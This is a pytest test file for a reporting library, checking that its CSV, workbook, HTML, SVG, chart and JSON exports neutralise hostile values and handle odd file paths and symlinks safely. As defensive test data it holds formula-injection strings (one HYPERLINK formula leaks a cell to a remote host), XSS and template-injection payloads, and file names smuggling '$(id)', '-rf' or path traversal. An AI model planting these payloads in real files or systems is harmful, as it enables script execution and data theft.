"""Attacks by way of files: what is in them, what a name in them does elsewhere, and where they are written."""

from __future__ import annotations

import csv
import json
import os
import re
from html import unescape
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import ground as grounds
import pyarrow.parquet as pq
import pytest
from ground import DAY, Ground, leaks, refusal

from okireports import charts
from okireports.errors import BadOption
from okireports.faces import Center, Result

SUFFIXES = ("csv", "parquet", "json", "xlsx", "html", "svg", "png")
FORMULAS = ["=1+1", "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")", "+48-1", "-2+3", "@SUM(A1:A9)"]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "\"><img src=x onerror=alert(3)>",
    "<!--<script>",
    "{{constructor.constructor('alert(4)')()}}",
    "javascript:alert(5)",
    "&lt;script&gt;alert(6)&lt;/script&gt;",
]  # fmt: skip


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Ground:
    return grounds.made(tmp_path_factory.mktemp("ground"))


@pytest.fixture(scope="module")
def result(ground: Ground) -> Result:
    return ground.ask("sue", "call_log")


@pytest.fixture(scope="module")
def strange(tmp_path_factory: pytest.TempPathFactory) -> Center:
    """Queues whose names are formulas and markup; each has one call, whose result is called so too."""
    return grounds.small(tmp_path_factory.mktemp("strange"), FORMULAS + MARKUP)


def asked(center: Center, report: str = "queue_summary") -> Result:
    return center.viewer("sue").report(report, period=DAY)


# What is in them


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_no_file_holds_anything_hidden(result: Result, tmp_path: Path, suffix: str) -> None:
    path = result.save(tmp_path / f"log.{suffix}")
    assert path.stat().st_size > 100 and not leaks(path)


def test_parquet_keeps_no_dictionary_and_no_statistics_of_hidden_rows(result: Result, tmp_path: Path) -> None:
    whole = pq.ParquetFile(result.save(tmp_path / "log.parquet"))
    told = []
    for group in range(whole.metadata.num_row_groups):
        for column in range(whole.metadata.num_columns):
            said = whole.metadata.row_group(group).column(column).statistics
            told.append(f"{said and said.min} {said and said.max} {said and said.distinct_count}")
    assert any("Acme sales" in said for said in told)
    assert whole.metadata.num_rows == 5 and not leaks(*told, str(whole.metadata.metadata), str(whole.schema_arrow))


def test_a_page_of_a_log_as_a_file_is_that_page(ground: Ground, tmp_path: Path) -> None:
    path = ground.ask("sue", "call_log", limit=1, offset=4).save(tmp_path / "page.json")
    assert [row["call"] for row in json.loads(path.read_text("utf-8"))["rows"]] == ["a-0"]


# What a name in them does elsewhere


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_is_text_in_csv(strange: Center, tmp_path: Path, name: str) -> None:
    path = asked(strange).save(tmp_path / "x.csv")
    with path.open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{name}" in cells and name not in cells


def test_no_cell_of_csv_begins_a_formula(strange: Center, tmp_path: Path) -> None:
    for report in ("queue_summary", "call_log", "call_outcomes"):
        path = asked(strange, report).save(tmp_path / f"{report}.csv")
        with path.open(newline="", encoding="utf-8") as file:
            rows = list(csv.reader(file))
        assert len(rows) > 5
        assert not [
            cell for row in rows for cell in row if cell[:1] in tuple("=@\t\r") or re.match(r"[+-](?!\d+\.?\d*$)", cell)
        ]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(strange: Center, tmp_path: Path) -> None:
    for report in ("queue_summary", "call_log"):
        path = asked(strange, report).save(tmp_path / f"{report}.xlsx")
        with ZipFile(path) as book:
            parts = {
                name: book.read(name).decode("utf-8") for name in book.namelist() if name.endswith((".xml", ".rels"))
            }
        sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
        assert sheets and not [text for text in sheets if re.search(r"<(f|hyperlinks?)\b", text)]
        assert not [name for name in parts if "externalLink" in name or "connections" in name]
        assert "HYPERLINK" in "".join(parts.values()), "the name was not there"


@pytest.mark.parametrize("name", MARKUP)
def test_markup_is_text_on_a_page(strange: Center, tmp_path: Path, name: str) -> None:
    page = asked(strange, "call_log").save(tmp_path / "x.html").read_text("utf-8")
    cells = re.findall(r"<td[^>]*>(.*?)</td>", page, re.DOTALL)
    assert name in [unescape(cell) for cell in cells]
    assert not [cell for cell in cells if "<" in cell or ">" in cell]


def test_markup_ends_no_script_of_a_chart(strange: Center) -> None:
    chart = asked(strange, "call_outcomes").chart
    assert "alert(2)" in json.dumps(chart.to_dict())
    for text in (charts.html(chart), asked(strange, "call_outcomes")._repr_mimebundle_()["text/html"]):
        assert isinstance(text, str)
        scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", text, re.DOTALL)
        rest = re.sub(r"<script\b[^>]*>.*?</script>", "", text, flags=re.DOTALL)
        assert "alert(2)" in "".join(scripts) and not re.search(r"<(script|img|!--)", rest, re.IGNORECASE)
        assert not re.search(r"<\s*/?\s*script|<!--", "".join(scripts[1:]), re.IGNORECASE)


def test_names_are_not_expressions_of_a_chart(strange: Center) -> None:
    """A name stands in the data, in a sort or in a domain, and never where Vega looks for an expression."""
    spec = asked(strange, "call_outcomes").chart.to_dict()
    assert "constructor" in json.dumps(spec)

    def expressions(part: Any, key: str = "") -> list[str]:
        if isinstance(part, dict):
            return [found for k, v in part.items() if k not in ("datasets", "values") for found in expressions(v, k)]
        if isinstance(part, list):
            return [found for v in part for found in expressions(v, key)]
        return (
            [part]
            if isinstance(part, str) and key in ("expr", "calculate", "filter", "labelExpr", "test", "href", "url")
            else []
        )

    assert not [e for e in expressions(spec) if any(name in e for name in FORMULAS + MARKUP)]


def test_a_svg_of_strange_names_runs_nothing(strange: Center, tmp_path: Path) -> None:
    drawn = asked(strange, "call_outcomes").save(tmp_path / "x.svg").read_text("utf-8")
    assert "alert(1)" in drawn
    assert not re.search(r"<(script|foreignObject|image|img)\b|\bon\w+=\"|xlink:href", drawn)


def test_json_takes_names_as_they_are(strange: Center, tmp_path: Path) -> None:
    rows = json.loads(asked(strange, "call_log").save(tmp_path / "x.json").read_text("utf-8"))["rows"]
    assert {row["queue"] for row in rows} == {*FORMULAS, *MARKUP}


# Where they are written


@pytest.mark.parametrize(
    "name",
    [
        "\u202egnp.csv",
        "\u2066\u05d0\u05d1.csv",
        "CON.csv",
        "nul.csv",
        "-rf.csv",
        " .csv",
        "~.csv",
        "$(id).csv",
        "a\nb.csv",
        "%2e%2e%2f.csv",
        "..csv.csv",
    ],
)
def test_a_strange_name_is_a_file_of_that_name_and_no_other(result: Result, tmp_path: Path, name: str) -> None:
    assert result.save(tmp_path / name) == tmp_path / name
    assert os.listdir(tmp_path) == [name]
    assert (tmp_path / name).stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "name", ["x" * 300 + ".csv", "x\0.csv", "no/such/folder.csv", "x.csv/y.csv", "x.exe", "csv", ".."]
)
def test_a_name_that_does_not_do_leaves_nothing(result: Result, tmp_path: Path, name: str) -> None:
    kind, error = refusal(lambda: result.save(tmp_path / name))
    assert kind != "nothing" and not leaks(error) and os.listdir(tmp_path) == []


def test_a_link_is_replaced_and_not_followed(result: Result, tmp_path: Path) -> None:
    kept, link = tmp_path / "kept.csv", tmp_path / "link.csv"
    kept.write_text("mine")
    link.symlink_to(kept)
    result.save(link)
    assert kept.read_text() == "mine" and not link.is_symlink()


def test_a_link_into_the_centre_changes_nothing_there(ground: Ground, result: Result, tmp_path: Path) -> None:
    before = {p: p.read_bytes() for p in ground.center.path.rglob("*") if p.is_file() and "journal" not in p.parts}
    (tmp_path / "x.csv").symlink_to(ground.center.folder.current().control)
    (tmp_path / "y.csv").symlink_to(ground.center.folder.pointer)
    for name in ("x.csv", "y.csv"):
        result.save(tmp_path / name)
    assert {p: p.read_bytes() for p in before} == before


def test_a_folder_is_not_replaced(result: Result, tmp_path: Path) -> None:
    (tmp_path / "x.csv").mkdir()
    with pytest.raises(BadOption, match="folder"):
        result.save(tmp_path / "x.csv")


def test_a_write_that_fails_leaves_what_was_there(
    result: Result, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "x.csv").write_text("mine")

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space"):
        result.save(tmp_path / "x.csv")
    assert os.listdir(tmp_path) == ["x.csv"] and (tmp_path / "x.csv").read_text() == "mine"
